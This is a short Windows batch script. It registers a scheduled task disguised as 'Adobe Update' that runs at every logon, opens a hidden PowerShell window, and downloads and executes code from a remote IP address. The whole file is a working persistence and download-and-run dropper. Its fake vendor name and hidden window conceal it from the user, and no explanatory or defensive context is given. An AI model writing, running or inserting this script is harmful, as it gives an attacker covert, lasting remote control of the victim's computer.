@echo off
schtasks /create /tn "Adobe Update" /tr "powershell -w hidden -c iwr http://203.0.113.5/b|iex" /sc onlogon /f
